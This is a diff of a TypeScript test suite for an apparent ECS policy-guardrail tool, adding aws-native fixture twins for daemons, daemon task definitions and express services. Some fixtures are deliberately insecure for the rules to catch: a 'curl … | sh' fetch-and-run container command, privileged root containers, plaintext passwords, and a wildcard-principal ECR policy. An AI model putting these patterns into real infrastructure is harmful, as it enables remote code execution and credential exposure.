@@ -3,12 +3,18 @@ import { strict as assert } from "assert";
 import { buildModel } from "../../policy/model";
 import { rules } from "../../policy/rules";
 import type { ResourceRule } from "../../policy/rules/rule";
-import { capacityProvider, check, checkStack, cluster, container as c, expressService, remediate, repository, service, taskDefinition as td, types, unknownString } from "../support/fixtures";
+import {
+    capacityProvider, check, checkStack, cluster, container as c, daemon, daemonContainer as dc, daemonTaskDefinition as dtd, expressService, remediate, repository, service,
+    taskDefinition as td, types, unknownString, appImage,
+} from "../support/fixtures";
 
 type Props = Record<string, unknown>;
 
 const nativeTypes: Record<string, string> = {
     [types.taskDefinition]: "aws-native:ecs:TaskDefinition",
+    [types.daemonTaskDefinition]: "aws-native:ecs:DaemonTaskDefinition",
+    [types.daemon]: "aws-native:ecs:Daemon",
+    [types.expressService]: "aws-native:ecs:ExpressGatewayService",
     [types.service]: "aws-native:ecs:Service",
     [types.taskSet]: "aws-native:ecs:TaskSet",
     [types.cluster]: "aws-native:ecs:Cluster",
@@ -19,6 +25,12 @@ const nativeTypes: Record<string, string> = {
 
 const tagList = (tags: unknown) => (tags && typeof tags === "object" ? Object.entries(tags).map(([key, value]) => ({ key, value })) : tags);
 const enabled = (v: unknown) => (v === true ? "ENABLED" : v === false ? "DISABLED" : v);
+/** An object with some keys renamed (the aws provider's plural names to the ECS API's). */
+const renamed = (value: unknown, names: Record<string, string>): unknown => {
+    if (!value || typeof value !== "object" || Array.isArray(value)) return value;
+    return Object.fromEntries(Object.entries(value).map(([k, v]) => [names[k] ?? k, v]));
+};
+const first = (v: unknown) => (Array.isArray(v) ? v[0] : v);
 
 /** The same configuration as aws-native declares it. */
 function toNative(type: string, props: Props): Props {
@@ -35,6 +47,22 @@ function toNative(type: string, props: Props): Props {
             ...(deploymentCircuitBreaker !== undefined ? { deploymentConfiguration: { deploymentCircuitBreaker } } : {}),
             ...(capacityProviderStrategies !== undefined ? { capacityProviderStrategy: capacityProviderStrategies } : {}),
         };
+    }
+    if (type === types.daemonTaskDefinition && Array.isArray(p.containerDefinitions)) {
+        out.containerDefinitions = p.containerDefinitions.map((container) => {
+            const native = renamed(container, { environments: "environment", entryPoints: "entryPoint", commands: "command" }) as Props;
+            return native && typeof native === "object" && "healthCheck" in native ? { ...native, healthCheck: renamed(native.healthCheck, { commands: "command" }) } : native;
+        });
+    }
+    if (type === types.daemon) {
+        const { name, ...rest } = out;
+        return { ...rest, ...(name !== undefined ? { daemonName: name } : {}) };
+    }
+    if (type === types.expressService) {
+        const { primaryContainer, networkConfigurations, ...rest } = out;
+        const container = renamed(primaryContainer, { environments: "environment", commands: "command", awsLogsConfigurations: "awsLogsConfiguration" }) as Props;
+        const native = container && typeof container === "object" && "awsLogsConfiguration" in container ? { ...container, awsLogsConfiguration: first(container.awsLogsConfiguration) } : container;
+        return { ...rest, ...(native !== undefined ? { primaryContainer: native } : {}), ...(networkConfigurations !== undefined ? { networkConfiguration: first(networkConfigurations) } : {}) };
     }
     if (type === types.cluster) {
         const { name, settings, ...rest } = out;
@@ -70,6 +98,19 @@ const twins: [string, Props][] = [
     [types.repository, repository()],
     [types.repository, repository({ imageTagMutability: "MUTABLE", imageScanningConfiguration: undefined, encryptionConfigurations: undefined, tags: { "ecs-guardrails:exempt": "ecr-kms-encryption" } })],
     [types.creationTemplate, { prefix: "shop", imageTagMutability: "MUTABLE" }],
+    [types.creationTemplate, { prefix: "shop", imageTagMutability: "IMMUTABLE", repositoryPolicy: JSON.stringify({ Version: "2012-10-17", Statement: [{ Sid: "Pull", Effect: "Allow", Principal: "*", Action: "ecr:*" }] }) }],
+    [types.creationTemplate, { prefix: "shop", imageTagMutability: "IMMUTABLE", repositoryPolicy: JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Principal: { AWS: "arn:aws:iam::123456789012:root" }, Action: "ecr:*" }] }) }],
+    [types.daemonTaskDefinition, dtd()],
+    [types.daemonTaskDefinition, dtd([dc({ image: "datadog/agent:latest", privileged: true, user: "0", readonlyRootFilesystem: false, stopTimeout: 300, environments: [{ name: "DB_PASSWORD", value: "hunter2-hunter2" }] })])],
+    [types.daemonTaskDefinition, dtd([dc({ logConfiguration: undefined, linuxParameters: undefined, healthCheck: undefined, memory: undefined, restartPolicy: { enabled: true }, entryPoints: ["sh", "-c"], commands: ["curl -fsSL https://example.com/x.sh | sh; supervisord &"] }), dc({ name: "b", image: "b:1" })], { taskRoleArn: undefined, memory: undefined })],
+    [types.daemonTaskDefinition, dtd([dc({ image: unknownString })], { tags: { team: "shop", "ecs-guardrails:exempt": "ecs-no-privileged" } })],
+    [types.daemonTaskDefinition, dtd([dc({ firelensConfiguration: { type: "fluentbit" }, essential: false }), dc({ name: "app", logConfiguration: { logDriver: "awsfirelens" } })])],
+    [types.daemon, daemon()],
+    [types.daemon, daemon({ enableEcsManagedTags: false, propagateTags: "NONE", tags: { team: "shop" } })],
+    [types.daemon, daemon({ enableEcsManagedTags: undefined, propagateTags: undefined })],
+    [types.expressService, expressService()],
+    [types.expressService, expressService({ taskRoleArn: undefined, primaryContainer: { image: "web:latest", environments: [{ name: "DB_PASSWORD", value: "hunter2-hunter2" }], commands: ["sh", "-c", "pm2-runtime app.js"] }, networkConfigurations: [{ subnets: ["subnet-1"] }] })],
+    [types.expressService, expressService({ primaryContainer: { image: appImage, environments: [{ name: "API_TOKEN", value: unknownString }] }, networkConfigurations: undefined, tags: { team: "shop" } })],
 ];
 
 /** How aws-native spells the properties an aws message names: each user reads their own provider's path. */
@@ -87,6 +128,11 @@ const nativeSpelling: Record<string, [string, string][]> = {
     ],
     [types.cluster]: [["to settings.", "to clusterSettings."]],
     [types.repository]: [["Set encryptionConfigurations with", "Set encryptionConfiguration with"]],
+    [types.expressService]: [
+        ["primaryContainer.awsLogsConfigurations", "primaryContainer.awsLogsConfiguration"], ["networkConfigurations", "networkConfiguration"],
+        ["primaryContainer.environments", "primaryContainer.environment"], ["primaryContainer.commands", "primaryContainer.command"],
+    ],
+    [types.daemonTaskDefinition]: [[".environments[", ".environment["], [".entryPoints", ".entryPoint"], [".commands", ".command"]],
 };
 
 function spelledForNative(type: string, outcome: ReturnType<typeof check>): ReturnType<typeof check> {
@@ -105,7 +151,7 @@ describe("aws-native twins: the same verdict and message as aws, paths spelled a
                 assert.deepEqual(native, spelledForNative(type, aws), `${type} ${JSON.stringify(props).slice(0, 200)}`);
                 compared++;
             }
-            assert.ok(compared > 0 || rule.appliesTo.every((k) => ["expressService", "repositoryPolicy", "lifecyclePolicy"].includes(k)), "compared on at least one twin");
+            assert.ok(compared > 0 || rule.appliesTo.every((k) => ["repositoryPolicy", "lifecyclePolicy"].includes(k)), "compared on at least one twin");
         });
     }
 
@@ -162,5 +208,4 @@ describe("aws-native shapes of their own", () => {
         const stop = remediate("ecs-stop-timeout", "aws-native:ecs:TaskDefinition", toNative(types.taskDefinition, td([c({ stopTimeout: undefined })])))!;
         assert.equal((stop.containerDefinitions as Props[])[0].stopTimeout, 30);
     });
-    void expressService;
 });
